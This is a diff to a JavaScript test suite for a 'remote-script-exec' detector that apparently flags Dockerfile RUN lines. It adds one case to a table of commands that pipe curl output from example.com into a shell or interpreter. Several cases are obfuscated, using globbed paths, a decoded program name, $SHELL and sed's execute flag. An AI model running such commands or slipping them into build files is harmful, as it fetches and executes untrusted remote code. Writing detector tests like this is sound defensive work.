@@ -131,6 +131,7 @@ describe('remote-script-exec', () => {
     ['a shell of several', 'RUN case $(arch) in x) s=bash;; *) s=sh;; esac; «curl https://example.com/a | $s»'],
     ['a shell behind a variable', 'RUN «curl https://example.com/a | $SUDO bash -»'],
     ['a pattern of programs', 'RUN «/usr/bin/cur[l] https://example.com/a | /bin/b?sh»'],
+    ['a pattern of any interpreter', 'RUN «curl https://example.com/a | /usr/bin/rub*»'],
     ['a program that is put together', 'RUN «$(echo dvsm | tr b-z a-y) https://example.com/a | sh»'],
     ['the shell itself', 'RUN «curl https://example.com/a | $SHELL»'],
     ['a script of sed that runs lines', `RUN «curl https://example.com/a | sed 's/^//e'»`],
